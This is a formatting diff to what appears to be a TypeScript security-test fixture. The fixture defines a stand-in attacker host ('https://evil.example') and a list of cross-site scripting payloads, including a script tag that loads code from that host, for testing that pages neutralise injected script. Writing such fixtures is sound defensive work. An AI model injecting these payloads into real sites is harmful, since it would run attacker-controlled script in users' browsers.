@@ -1,9 +1,15 @@
-/** Where an injected script would report that it ran: nothing answers there, and no test may request it. */
+/**
+ * Where an injected script would report that it ran: nothing answers there, and no test may request
+ * it.
+ */
 export const EVIL = 'https://evil.example';
 
 const call = 'alert(1)';
 
-/** 40 texts that become script where a page takes a text for markup, an attribute, an address, a style or code (T3). */
+/**
+ * 40 texts that become script where a page takes a text for markup, an attribute, an address, a
+ * style or code (T3).
+ */
 export const payloads = [
   `<script>${call}</script>`,
   `<script src=${EVIL}/1.js></script>`,
@@ -52,7 +58,8 @@ export function inTexts(most: number): string[] {
   const texts: string[] = [];
   for (const payload of payloads) {
     const last = texts.at(-1);
-    if (last !== undefined && last.length + 1 + payload.length <= most) texts[texts.length - 1] = `${last} ${payload}`;
+    if (last !== undefined && last.length + 1 + payload.length <= most)
+      texts[texts.length - 1] = `${last} ${payload}`;
     else texts.push(payload);
   }
   return texts;
